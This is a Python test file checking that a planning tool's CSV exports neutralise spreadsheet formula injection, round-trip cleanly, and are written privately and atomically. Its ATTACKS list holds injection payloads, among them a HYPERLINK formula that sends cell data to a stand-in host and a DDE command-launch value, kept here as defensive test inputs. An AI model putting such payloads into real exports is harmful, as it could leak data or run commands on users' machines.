"""CSV exports open safely in a spreadsheet, round-trip through the csv module, and keep
numbers as numbers."""

from __future__ import annotations

import csv
import io
import math
import os
import stat
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sencoplan.io.csv_export import (
    CSV_ENCODING,
    FORMULA_STARTS,
    GAP_HEADINGS,
    PRIORITY_HEADINGS,
    cell,
    csv_text,
    neutralise,
)
from sencoplan.io.files import write_private

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid?x="&A1,"Click")',
    "+44 7700 900000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    " =1+1",
    "\n=cmd|' /C calc'!A0",
    "＝1+1",
    "-",
]

text_cells = st.text(st.characters(codec="utf-8"), max_size=40)
numbers = st.integers(min_value=-(10**12), max_value=10**12) | st.floats(
    allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12
)


def _read(text: str) -> list[list[Any]]:
    """How another program reads our file: numbers unquoted, text quoted."""
    return list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))


def _first_visible(text: str) -> str:
    stripped = text.lstrip(" \n")
    return stripped[:1]


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_formula_attacks_are_shown_as_text(attack: str) -> None:
    safe = neutralise(attack)
    assert safe == "'" + attack
    [[back]] = _read(csv_text(["x"], [[attack]]))[1:]
    assert back == safe


@pytest.mark.parametrize("harmless", ["Ann", "Ben Ó Briain", "5 pupils", "", "'quoted", "a=b"])
def test_harmless_text_is_left_as_it_is(harmless: str) -> None:
    assert neutralise(harmless) == harmless


@given(text_cells)
@example("=")
@example("  \n  @x")
@example("\r\n")
def test_no_text_cell_can_start_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert safe[:1] not in FORMULA_STARTS
    assert _first_visible(safe) not in FORMULA_STARTS
    # Nothing is lost: the cell is the text, or the text behind one quote mark.
    assert safe in (text, "'" + text)
    assert (safe != text) == (text[:1] in FORMULA_STARTS or _first_visible(text) in FORMULA_STARTS)


@given(st.lists(st.lists(text_cells | numbers | st.none(), min_size=1, max_size=6), max_size=8))
def test_every_cell_round_trips_through_the_csv_module(rows: list[list[object]]) -> None:
    width = max((len(row) for row in rows), default=1)
    headings = [f"h{i}" for i in range(width)]
    rows = [row + [None] * (width - len(row)) for row in rows]
    back = _read(csv_text(headings, rows))  # type: ignore[arg-type]
    assert back[0] == headings
    assert len(back) == len(rows) + 1
    for written, read in zip(rows, back[1:], strict=True):
        for value, got in zip(written, read, strict=True):
            if isinstance(value, int | float):
                # Our own numbers stay numbers (a spreadsheet sums them), never neutralised.
                assert isinstance(got, float)
                assert math.isclose(got, value, rel_tol=1e-12, abs_tol=1e-12)
            elif value is None:
                assert got == ""
            else:
                assert isinstance(got, str)
                assert got == neutralise(str(value))
                assert got[:1] not in FORMULA_STARTS


def test_numbers_of_our_own_are_numbers_and_text_that_looks_like_one_is_text() -> None:
    assert cell(-2) == -2 and cell(2.5) == 2.5
    assert cell("-2") == "'-2"
    assert cell(True) == "yes" and cell(None) == ""
    assert cell(float("-inf")) == "'-inf" and cell(float("nan")) == "nan"
    text = csv_text(["n", "t"], [[-2, "-2"]])
    assert text.splitlines()[1] == '-2,"\'-2"'


def test_a_csv_file_is_private_and_opens_in_excel_with_its_accents(tmp_path: Path) -> None:
    out = write_private(
        tmp_path / "gaps.csv", csv_text(["Staff"], [["Ben Ó Briain"]]), encoding=CSV_ENCODING
    )
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel looks for
    assert "Ben Ó Briain" in data.decode(CSV_ENCODING)
    assert data.count(b"\r\n") == 2  # RFC 4180 line endings, and no blank line
    if sys.platform != "win32":
        assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_headings_are_plain_text() -> None:
    for heading in (*PRIORITY_HEADINGS, *GAP_HEADINGS):
        assert neutralise(heading) == heading


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
def test_write_private_replaces_a_readable_file_with_a_private_one(tmp_path: Path) -> None:
    target = tmp_path / "report.md"
    target.write_text("old")
    target.chmod(0o644)
    old_umask = os.umask(0)  # the most permissive umask: the file must still be 0600
    try:
        write_private(target, "new")
    finally:
        os.umask(old_umask)
    assert target.read_text() == "new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["report.md"]  # no temporary left


def test_an_interrupted_write_leaves_the_old_file_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "plan.md"
    target.write_text("the old plan, whole")

    def fail(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", fail)
    with pytest.raises(OSError, match="No space"):
        write_private(target, "the new plan " * 1000)
    assert target.read_text() == "the old plan, whole"
    assert [p.name for p in tmp_path.iterdir()] == ["plan.md"]


def test_a_missing_folder_is_an_error_not_a_file(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        write_private(tmp_path / "nowhere" / "x.md", "text")
    assert list(tmp_path.iterdir()) == []
